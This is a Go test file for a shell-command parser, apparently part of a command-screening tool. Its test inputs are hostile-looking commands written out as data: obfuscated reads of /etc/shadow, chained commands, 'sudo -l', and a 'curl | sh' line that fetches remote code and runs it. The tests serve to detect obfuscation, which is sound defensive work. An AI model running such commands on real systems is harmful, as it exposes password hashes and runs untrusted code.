package shell

import (
	"strings"
	"testing"
)

func TestWords(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"cat /etc/shadow", "cat|/etc/shadow"},
		{"cat   /etc/shadow  ", "cat|/etc/shadow"},
		{`cat "/etc/shadow"`, "cat|/etc/shadow"},
		{`cat /etc/'sha'dow`, "cat|/etc/shadow"},
		{`c\at /etc/sha\dow`, "cat|/etc/shadow"},
		{`cat /etc/sha""dow`, "cat|/etc/shadow"},
		{`echo "a \"b\" \$HOME \x"`, `echo|a "b" $HOME \x`},
		{"id; cat /etc/shadow", "id|;|cat|/etc/shadow"},
		{"true&&cat /etc/shadow||x", "true|&&|cat|/etc/shadow||||x"},
		{"curl -s http://h/x.sh | sh", "curl|-s|http://h/x.sh|||sh"},
		{"ls 2>/dev/null >> out", "ls|2|>|/dev/null|>>|out"},
		{"echo $(cat /etc/shadow) `id`", "echo|$(cat /etc/shadow)|`id`"},
		{"echo $(echo (a)) b", "echo|$(echo (a))|b"},
		{"echo 'unterminated", "echo|unterminated"},
		{`echo "open`, "echo|open"},
		{"ls # a comment", "ls"},
		{"echo a#b", "echo|a#b"},
		{"", ""},
		{`\`, ""},
	} {
		if got := strings.Join(Words(c.in), "|"); got != c.want {
			t.Errorf("Words(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	if n := len(Words(strings.Repeat("a ", 10000))); n != MaxWords {
		t.Errorf("%d words kept", n)
	}
}

func TestNormalize(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"cat /etc//shadow", "cat /etc/shadow"},
		{"cat /etc/./shadow", "cat /etc/shadow"},
		{"cat /etc/x/../shadow", "cat /etc/shadow"},
		{`cat  "/etc/shadow"`, "cat /etc/shadow"},
		{"ls /tmp/", "ls /tmp/"},
		{"curl http://a//b", "curl http://a//b"},
		{"cd /", "cd /"},
	} {
		if got := Normalize(Words(c.in)); got != c.want {
			t.Errorf("Normalize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestPrograms(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"/bin/cat /etc/shadow", "cat"},
		{"id; cat x && sudo -l | tee y", "id,cat,sudo,tee"},
		{"FOO=1 BAR=2 env", "env"},
		{"ls > out; (whoami)", "ls,whoami"},
		{"echo a=b", "echo"},
	} {
		if got := strings.Join(Programs(Words(c.in)), ","); got != c.want {
			t.Errorf("Programs(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// FuzzWords: any line splits without panicking, within the word bound, and
// quote removal only ever shortens: the words together are never longer
// than the line.
func FuzzWords(f *testing.F) {
	f.Add(`cat "/etc/shadow"; id`)  // quotes and an operator
	f.Add("echo $(a (b) `c`) 2>&1") // substitutions and a redirection
	f.Add("x\\")                    // a backslash at the end
	f.Add("'a\"b\\'c\"")            // quotes inside quotes
	f.Fuzz(func(t *testing.T, line string) {
		ws := Words(line)
		if len(ws) > MaxWords {
			t.Fatalf("%d words", len(ws))
		}
		total := 0
		for _, w := range ws {
			total += len(w)
		}
		if total > len(line) {
			t.Fatalf("words longer than the line: %q -> %q", line, ws)
		}
		Normalize(ws)
		Programs(ws)
	})
}
